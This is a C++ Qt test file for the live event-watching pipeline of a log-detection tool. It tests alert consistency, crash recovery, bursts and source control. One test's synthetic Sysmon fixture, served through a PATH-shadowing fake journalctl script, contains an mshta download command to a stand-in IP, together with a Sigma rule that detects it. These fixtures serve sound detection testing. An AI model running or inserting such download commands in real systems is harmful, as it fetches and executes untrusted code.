#include "app/pipeline/citedxml.h"
#include "app/pipeline/triage.h"
#include "app/pipeline/watching.h"
#include "model/evtx/eventreader.h"
#include "model/evtx/eventxml.h"
#include "model/store/alertstore.h"
#include "model/store/casestate.h"
#include "model/store/eventstore.h"
#include "model/store/factstore.h"
#include "tests/app/pipeline/testcase.h"

#include <fstream>
#include <random>
#include <set>
#include <thread>
#ifndef _WIN32
#include <csignal>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#endif

using namespace lolscope;
using namespace lolscope::test;

namespace fs = std::filesystem;

namespace {

WatchSummary watched(CaseFile &file, const std::vector<std::string> &sources, const std::stop_token &stop,
                     const WatchHandlers &handlers = {})
{
    std::vector<WatchInput> inputs;
    const auto bookmarks = take(liveBookmarks(file));
    for (const std::string &source : sources)
        inputs.push_back(watchInput(source, StreamFormat::Auto, bookmarks));
    return take(watch(file, std::move(inputs), bundledEngine(), stop, handlers));
}

/// Watches until the sources have given `events` in this run and then rested.
WatchSummary watchUntil(CaseFile &file, const std::vector<std::string> &sources, std::uint64_t events,
                        WatchHandlers handlers = {})
{
    std::stop_source stop;
    handlers.status = [&](const WatchStatus &status) {
        bool rests = !status.sources.empty();
        for (const auto &source : status.sources)
            rests = rests && source.status.state == LiveStatus::State::Following;
        if (rests && status.events >= events)
            stop.request_stop();
    };
    return watched(file, sources, stop.get_token(), handlers);
}

/// The events of a log as XML, one a line.
std::vector<std::string> xmlOf(const fs::path &log)
{
    std::vector<std::string> lines;
    const auto reader = take(openEvents(log, {.xml = true}));
    EventBatch batch;
    while (take(reader->next(batch)))
        for (const Event &event : batch.events) {
            std::string line(event.xml);
            std::replace(line.begin(), line.end(), '\n', ' ');
            lines.push_back(line + '\n');
        }
    return lines;
}

#ifndef _WIN32
bool hasEvents(const fs::path &path)
{
    const auto file = CaseFile::open(path, CaseFile::Mode::ReadOnly);
    const auto counts = file ? caseCounts(*file) : tl::unexpected(file.error());
    return counts && counts->events > 0;
}
#endif

/// Alert ids with their hits: what does not depend on where events were read.
QStringList alertsOf(const CaseFile &file)
{
    QStringList lines;
    for (const AlertRow &row : take(alerts(file)))
        lines << QStringLiteral("%1 %2 %3")
                     .arg(QString::fromStdString(row.id))
                     .arg(row.hits)
                     .arg(QString::fromStdString(row.destName));
    lines.sort();
    return lines;
}

std::string smallEvent(std::uint64_t id)
{
    return "<Event><System><Provider Name=\"P\"/><EventID>1</EventID><EventRecordID>" + std::to_string(id)
        + "</EventRecordID><Channel>C</Channel><Computer>H</Computer></System><EventData><Data Name=\"n\">"
        + std::to_string(id * 7919) + "</Data></EventData></Event>\n";
}

} // namespace

class TestWatching : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    /// However the events come, and in whatever order, the alerts are those of the file.
    void theSameAlertsAsFromAFile()
    {
        const TestCase indexed;
        const auto log = indexed.write("day.evtx", sampleScenario());
        indexed.index({log});
        const QStringList expected = alertsOf(indexed.open());
        QCOMPARE(expected.size(), 11);

        auto direct = take(CaseFile::temporary());
        std::set<std::string> told;
        WatchHandlers handlers;
        handlers.newAlert = [&](const CaseFile &, const AlertRow &row) {
            QVERIFY(told.insert(row.id).second);
        };
        watchUntil(direct, {log.string()}, sampleScenario().size(), handlers);
        QCOMPARE(alertsOf(direct), expected);
        QCOMPARE(told.size(), std::size_t{11});
        QCOMPARE(needsIndexing(direct).value(), false);

        auto lines = xmlOf(log);
        std::shuffle(lines.begin(), lines.end(), std::mt19937(3)); // starts after what their processes did
        const auto stream = indexed.path("shuffled.xml");
        for (std::size_t part = 0; part < 3; ++part) {
            auto file = take(CaseFile::open(indexed.path("live.lolscope"), CaseFile::Mode::Create));
            std::ofstream out(stream, std::ios::app);
            const std::size_t from = lines.size() * part / 3, to = lines.size() * (part + 1) / 3;
            for (std::size_t i = from; i < to; ++i)
                out << lines[i];
            out.close();
            QCOMPARE(watchUntil(file, {stream.string()}, to - from).status.events, std::uint64_t(to - from));
        }
        auto file = take(CaseFile::open(indexed.path("live.lolscope"), CaseFile::Mode::ReadWrite));
        QCOMPARE(alertsOf(file), expected);
        QCOMPARE(caseCounts(file)->events, std::uint64_t(lines.size()));
        QCOMPARE(caseCounts(file)->problems, std::uint64_t{0});
        const auto rows = take(evidence(file));
        QCOMPARE(rows.size(), std::size_t{1});
        QVERIFY(rows[0].state == EvidenceRow::State::Live);
        QCOMPARE(rows[0].records, std::uint64_t(lines.size()));
        QVERIFY(rows[0].sha256.empty());
        // The very file as evidence: known events with a second citation.
        Progress progress;
        const auto again = take(indexInto(file, {log}, bundledEngine(), {}, progress));
        QCOMPARE(again.duplicates, std::uint64_t(lines.size()));
        QCOMPARE(alertsOf(file), expected);
    }

    /// A verdict outlives every new run of the rules.
    void verdictsStay()
    {
        const TestCase test;
        const auto records = sampleScenario();
        const auto log = test.write("a.evtx", {records.begin(), records.begin() + 150});
        auto file = take(CaseFile::open(test.casePath(), CaseFile::Mode::Create));
        watchUntil(file, {log.parent_path().string()}, 150);
        const auto before = take(alerts(file));
        QVERIFY(!before.empty());
        QVERIFY(setVerdict(file, before[0].id, Verdict::Malicious, "seen", "anna"));
        test.write("b.evtx", {records.begin() + 150, records.end()});
        watchUntil(file, {log.parent_path().string()}, records.size() - 150);
        QCOMPARE(take(alert(file, before[0].id)).verdict, Verdict::Malicious);
        QCOMPARE(take(alerts(file)).size(), std::size_t{11});
    }

#ifndef _WIN32 // /dev/fd
    /// 100,000 events as fast as they can be read: none is lost, and memory is that of some batches.
    void aBurstLosesNothing()
    {
        constexpr std::uint64_t kEvents = 100'000;
        const TestCase test;
        int ends[2] = {};
        QCOMPARE(pipe(ends), 0);
        std::thread writer([descriptor = ends[1]] {
            for (std::uint64_t id = 1; id <= kEvents; ++id) {
                const std::string text = smallEvent(id);
                if (write(descriptor, text.data(), text.size()) != ssize_t(text.size()))
                    break;
            }
            close(descriptor);
        });
        auto file = take(CaseFile::open(test.casePath(), CaseFile::Mode::Create));
        const long before = residentKiB();
        std::vector<WatchInput> inputs;
        inputs.push_back(watchInput("/dev/fd/" + std::to_string(ends[0]), StreamFormat::Auto, {}));
        long most = 0;
        std::stop_source stop;
        WatchHandlers handlers;
        handlers.status = [&](const WatchStatus &status) {
            most = std::max(most, residentKiB());
            if (status.events >= kEvents)
                stop.request_stop();
        };
        const auto summary =
            take(watch(file, std::move(inputs), bundledEngine(), stop.get_token(), handlers));
        writer.join();
        close(ends[0]);
        QCOMPARE(summary.status.events, kEvents);
        QCOMPARE(summary.status.lost, std::uint64_t{0});
        QCOMPARE(caseCounts(file)->events, kEvents);
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
        constexpr long kMostMiB = 2048; // they keep what was freed
#else
        constexpr long kMostMiB = 160; // SQLite's cache is 64 MiB; the events themselves are some 30 MB
#endif
        QVERIFY2(most - before < kMostMiB * 1024, qPrintable(QString::number(most - before)));
    }
#endif

#ifndef _WIN32 // it forks
    /// Killed at any moment of a burst and started again until all is read: nothing is missing or there
    /// twice.
    void killedInABurstItResumes()
    {
#ifdef __SANITIZE_THREAD__
        QSKIP("ThreadSanitizer does not know threads of a forked process");
#endif
        const TestCase test;
        fs::create_directories(test.path("logs"));
        auto records = sampleScenario();
        const auto log = test.write("logs/day.evtx", records);
        const auto stream = test.path("logs/burst.xml");
        constexpr std::uint64_t kBurst = 20'000;
        const std::uint64_t all = records.size() + kBurst;
        std::ofstream out(stream);
        std::uint64_t written = 0;
        std::mt19937 random(11);
        int killed = 0;
        for (int round = 0; round < 12; ++round) {
            const pid_t child = fork();
            if (child == 0) {
                auto file = CaseFile::open(test.casePath(), CaseFile::Mode::Create);
                std::vector<WatchInput> inputs;
                inputs.push_back(
                    watchInput(test.path("logs").string(), StreamFormat::Auto, *liveBookmarks(*file)));
                (void)watch(*file, std::move(inputs), bundledEngine(), {}, {});
                _exit(0);
            }
            const auto until = std::chrono::steady_clock::now()
                + std::chrono::milliseconds(std::uniform_int_distribution<int>(20, 400)(random));
            // At least the last one gets somewhere, however busy the machine is.
            while (std::chrono::steady_clock::now() < until || (round == 11 && !hasEvents(test.casePath()))) {
                for (int i = 0; i < 200 && written < kBurst * static_cast<std::uint64_t>(round + 1) / 13; ++i)
                    out << smallEvent(++written);
                out.flush();
                std::this_thread::sleep_for(std::chrono::milliseconds(5));
            }
            kill(child, SIGKILL);
            int status = 0;
            QCOMPARE(waitpid(child, &status, 0), child);
            killed += WIFSIGNALED(status) ? 1 : 0;
        }
        QCOMPARE(killed, 12);
        while (written < kBurst)
            out << smallEvent(++written);
        out.close();
        auto file = take(CaseFile::open(test.casePath(), CaseFile::Mode::Create));
        const auto had = caseCounts(file)->events;
        QVERIFY2(had > 0 && had < all, qPrintable(QString::number(had)));
        watchUntil(file, {test.path("logs").string()}, all - had);
        QCOMPARE(caseCounts(file)->events, all);
        QCOMPARE(take(alerts(file)).size(), std::size_t{11});
        std::uint64_t recorded = 0;
        for (const EvidenceRow &row : take(evidence(file))) {
            recorded += row.records;
            QCOMPARE(row.duplicates, std::uint64_t{0}); // nothing was read twice
            QCOMPARE(row.lost, std::uint64_t{0});
        }
        QCOMPARE(recorded, all);
    }
#endif

    void aReplacedFileIsEvidenceOfItsOwn()
    {
        const TestCase test;
        const auto path = test.path("a.xml");
        std::ofstream(path) << smallEvent(1) << "garbage\n";
        auto file = take(CaseFile::open(test.casePath(), CaseFile::Mode::Create));
        watchUntil(file, {path.string()}, 1);
        fs::rename(path, test.path("a.xml.1"));
        std::ofstream(path) << smallEvent(2) << smallEvent(1);
        const auto summary = watchUntil(file, {path.string()}, 2);
        QCOMPARE(summary.damage.size(), std::size_t{1}); // nobody watched while it was replaced
        const auto rows = take(evidence(file));
        QCOMPARE(rows.size(), std::size_t{2});
        QCOMPARE(rows[0].lost, std::uint64_t{1});
        QCOMPARE(rows[1].records, std::uint64_t{2});
        QCOMPARE(rows[1].duplicates, std::uint64_t{1});
        QCOMPARE(caseCounts(file)->events, std::uint64_t{2});
        for (const EventId id : take(eventIds(file, {})))
            QVERIFY(!take(storedEvent(file, id)).citations.empty());
    }

    void sourcesArePausedStoppedAndAdded()
    {
        const TestCase test;
        const auto first = test.path("first.xml"), second = test.path("second.xml");
        std::ofstream(first) << smallEvent(1);
        std::ofstream(second) << smallEvent(2) << smallEvent(3);
        auto file = take(CaseFile::open(test.casePath(), CaseFile::Mode::Create));
        std::vector<WatchInput> inputs;
        inputs.push_back(watchInput(first.string(), StreamFormat::Auto, {}));
        WatchControl control;
        std::stop_source stop;
        int step = 0;
        using State = LiveStatus::State;
        WatchHandlers handlers;
        handlers.status = [&](const WatchStatus &status) {
            const State state = status.sources[0].status.state;
            if (step == 0 && state == State::Following && status.events == 1) {
                control.pause(0, true);
                step = 1;
            } else if (step == 1 && state == State::Paused) {
                std::ofstream(first, std::ios::app) << smallEvent(4);
                control.add([&](const LiveBookmarks &bookmarks) {
                    return watchInput(second.string(), StreamFormat::Auto, bookmarks);
                });
                step = 2;
            } else if (step == 2 && status.sources.size() == 2 && status.events == 3) {
                QCOMPARE(state, State::Paused); // and its event stayed where it was
                control.stop(1);
                control.pause(0, false);
                step = 3;
            } else if (step == 3 && status.events == 4 && status.sources[1].status.state == State::Stopped) {
                control.stop(0);
                step = 4;
            } // and when all are stopped it ends
        };
        const auto summary =
            take(watch(file, std::move(inputs), bundledEngine(), stop.get_token(), handlers, &control));
        QCOMPARE(step, 4);
        QCOMPARE(summary.status.events, std::uint64_t{4});
        QCOMPARE(caseCounts(file)->events, std::uint64_t{4});
    }

    /// One that writes all the time leaves others their turn, soon and without an error.
    void othersWriteInTurn()
    {
        const TestCase test;
        const auto stream = test.path("burst.xml");
        auto file = take(CaseFile::open(test.casePath(), CaseFile::Mode::Create));
        std::ofstream out(stream);
        std::vector<WatchInput> inputs;
        inputs.push_back(watchInput(stream.string(), StreamFormat::Auto, {}));
        const auto turns = std::make_shared<WriteTurns>();
        WatchControl control(turns);
        std::stop_source stop;
        std::thread other([&] {
            std::uint64_t id = 0;
            for (int write = 0; write < 20; ++write) {
                for (int i = 0; i < 500; ++i)
                    out << smallEvent(++id);
                out.flush();
                std::this_thread::sleep_for(std::chrono::milliseconds(30));
                turns->take();
                const auto begun = std::chrono::steady_clock::now();
                {
                    auto own = take(CaseFile::open(test.casePath(), CaseFile::Mode::ReadWrite));
                    QVERIFY(journal(own, "anna", "test", "", ""));
                }
                QVERIFY(std::chrono::steady_clock::now() - begun < std::chrono::seconds(5)); // nobody was in
                                                                                             // the way
                turns->give();
            }
            stop.request_stop();
        });
        const auto summary =
            take(watch(file, std::move(inputs), bundledEngine(), stop.get_token(), {}, &control));
        other.join();
        QVERIFY(summary.status.events > 0);
        QCOMPARE(caseCounts(file)->events, summary.status.events);
    }

#ifndef _WIN32 // FIFOs, journald, kills
    /// What comes through a pipe cannot be read again, so the case has it as it came: here UserData, and no
    /// Version or Level.
    void recordsOfPipesKeepTheirStructure()
    {
        const TestCase test;
        const std::string userData =
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider "
            "Name='P'/>"
            "<EventID>104</EventID><EventRecordID>5</EventRecordID><Channel>System</Channel><Computer>H</"
            "Computer>"
            "</System><UserData><LogFileCleared "
            "xmlns='x'><Channel>Security</Channel></LogFileCleared></UserData>"
            "</Event>";
        const auto fifo = test.path("fifo");
        QCOMPARE(mkfifo(fifo.c_str(), 0600), 0);
        std::thread writer([&] {
            std::ofstream out(fifo);
            out << smallEvent(1) << userData << '\n' << smallEvent(2);
        });
        auto file = take(CaseFile::temporary());
        watchUntil(file, {fifo.string()}, 3);
        writer.join();
        const auto ids = take(eventIds(file, {}));
        QCOMPARE(ids.size(), std::size_t{3});
        for (const EventId id : ids) {
            const auto stored = take(storedEvent(file, id));
            const CitedXml cited = citedXml(stored);
            QVERIFY(!cited.flattened);
            const auto number = *stored.event.recordId;
            std::string expected = number == 5 ? userData : smallEvent(number);
            if (expected.back() == '\n')
                expected.pop_back();
            QCOMPARE(cited.xml, expected);
        }
    }

    /// Sysmon for Linux, as journald gives it: rules for Linux see processes and connections, those for
    /// Windows do not.
    void sysmonForLinuxMakesAlerts()
    {
        const TestCase test;
        const auto event = [](int id, const char *time, const std::string &fields) {
            return std::string("<Event><System><Provider Name=\\\"Linux-Sysmon\\\" "
                               "Guid=\\\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\\\"/><EventID>")
                + std::to_string(id)
                + "</EventID><Version>5</Version><Level>4</Level><TimeCreated SystemTime=\\\"" + time
                + "\\\"/><EventRecordID>" + std::to_string(id)
                + "</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>web-1</"
                  "Computer><Security "
                  "UserId=\\\"0\\\"/></System><EventData>"
                  "<Data Name=\\\"ProcessGuid\\\">{5d0a42c1-3cef-6ac3-0a00-00100020f800}</Data><Data "
                  "Name=\\\"ProcessId\\\">8440</Data><Data Name=\\\"Image\\\">/usr/bin/mshta.exe</Data>"
                + fields + "</EventData></Event>";
        };
        const auto field = [](const char *name, const char *value) {
            return std::string("<Data Name=\\\"") + name + "\\\">" + value + "</Data>";
        };
        fs::create_directory(test.path("bin"));
        const fs::path program = test.path("bin") / "journalctl";
        std::ofstream(program) << "#!/bin/sh\ncat <<'END'\n{\"__CURSOR\":\"1\",\"MESSAGE\":\""
                               << event(1, "2026-10-05T10:12:33.340000000Z",
                                        field("CommandLine", "mshta.exe http://203.0.113.9/x")
                                            + field("ParentImage", "/bin/sh"))
                               << "\"}\n{\"__CURSOR\":\"2\",\"MESSAGE\":\""
                               << event(3, "2026-10-05T10:12:34.567000000Z",
                                        field("Protocol", "tcp") + field("Initiated", "true")
                                            + field("SourceIp", "10.0.0.5") + field("SourcePort", "50123")
                                            + field("DestinationIp", "203.0.113.9")
                                            + field("DestinationPort", "443"))
                               << "\"}\nEND\nexec sleep 1000\n";
        fs::permissions(program, fs::perms::owner_all);
        const QByteArray path = qgetenv("PATH");
        qputenv("PATH", QByteArray::fromStdString((test.path("bin")).string() + ":") + path);
        auto rules = bundledRuleLoad().loaded;
        const auto own =
            sigma::parseRules("title: Download on Linux\nid: "
                              "4d4a0000-0000-4000-8000-00000000000a\nlogsource:\n  product: linux\n  "
                              "category: network_connection\ndetection:\n  selection:\n    "
                              "CommandLine|contains: 'http://'\n    "
                              "DestinationPort: 443\n  condition: selection\nlevel: high\n",
                              "linux.yml");
        rules.insert(rules.end(), own.loaded.begin(), own.loaded.end());
        const Engine engine(rules);
        auto file = take(CaseFile::temporary());
        std::vector<WatchInput> inputs;
        inputs.push_back(watchInput("journald", StreamFormat::Auto, {}));
        std::stop_source stop;
        WatchHandlers handlers;
        handlers.status = [&](const WatchStatus &status) {
            if (status.events >= 2 && status.sources[0].status.state == LiveStatus::State::Following)
                stop.request_stop();
        };
        const auto summary = take(watch(file, std::move(inputs), engine, stop.get_token(), handlers));
        qputenv("PATH", path);
        QCOMPARE(summary.status.events, std::uint64_t{2});
        const auto rows = take(allConnections(file));
        QCOMPARE(rows.size(), std::size_t{1});
        QVERIFY(rows[0].process);
        const auto process = take(lolscope::process(file, *rows[0].process));
        QCOMPARE(process.image + ' ' + process.commandLine + ' ' + process.parentImage,
                 std::string("/usr/bin/mshta.exe mshta.exe http://203.0.113.9/x /bin/sh"));
        // The journal is not read again: the case has the records as they came.
        std::string xml =
            event(3, "2026-10-05T10:12:34.567000000Z",
                  field("Protocol", "tcp") + field("Initiated", "true") + field("SourceIp", "10.0.0.5")
                      + field("SourcePort", "50123") + field("DestinationIp", "203.0.113.9")
                      + field("DestinationPort", "443"));
        std::erase(xml, '\\');
        const CitedXml cited = citedXml(take(storedEvent(file, rows[0].event)));
        QVERIFY(!cited.flattened);
        QCOMPARE(cited.xml, xml);
        const auto found = take(alerts(file));
        QCOMPARE(found.size(), std::size_t{1}); // no rule for Windows
        QCOMPARE(found[0].ruleTitle + ' ' + found[0].destIp, std::string("Download on Linux 203.0.113.9"));
    }

private:
    static long residentKiB()
    {
        std::ifstream statm("/proc/self/statm");
        long size = 0, resident = 0;
        statm >> size >> resident;
        return resident * (sysconf(_SC_PAGESIZE) / 1024);
    }
#endif
};

QTEST_GUILESS_MAIN(TestWatching)
#include "tst_watching.moc"
